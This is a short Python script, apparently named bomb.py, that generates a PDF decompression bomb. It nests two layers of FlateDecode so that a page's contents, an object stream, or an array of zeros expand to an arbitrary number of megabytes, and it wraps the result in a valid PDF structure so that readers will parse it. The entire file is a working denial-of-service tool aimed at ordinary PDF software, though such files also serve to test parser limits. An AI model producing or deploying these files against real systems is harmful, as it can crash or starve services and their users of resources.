"""Writes a PDF whose contents, or whose object stream, unpack twice, to so many megabytes of blanks, or whose object stream holds as many of
noughts: bomb.py MEGABYTES contents|objects|zeros"""
import sys
import zlib

megabytes, kind = int(sys.argv[1]), sys.argv[2]
packing = zlib.compressobj(1)
begin = {"contents": b"", "objects": b"5 0 6 20 ".ljust(64) + b"<< /A 1 >>".ljust(20) + b"<< /B 2 >>", "zeros": b"5 0 ".ljust(64) + b"["}[kind]
packed = packing.compress(begin)
for _ in range(megabytes):
    packed += packing.compress((b"0 " if kind == "zeros" else b"  ") * (1 << 19))
packed += packing.compress(b"]" if kind == "zeros" else b"")
packed = zlib.compress(packed + packing.flush(), 9)
head = {"contents": b"", "objects": b"/Type /ObjStm /N 2 /First 64", "zeros": b"/Type /ObjStm /N 1 /First 64"}[kind]
stream = b"<< %s /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (head, len(packed), packed)
contents = b"/Contents 4 0 R" if kind == "contents" else b"/Tabs 4 0 R"
objects = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /X %s 0 R >> %s >>" % (b"5" if kind == "zeros" else b"4", contents),
    stream,
]
pdf, places = b"%PDF-1.5\n", []
for number, thing in enumerate(objects, 1):
    places.append(len(pdf))
    pdf += b"%d 0 obj\n%s\nendobj\n" % (number, thing)
table = len(pdf)
pdf += b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
pdf += b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % table
sys.stdout.buffer.write(pdf)
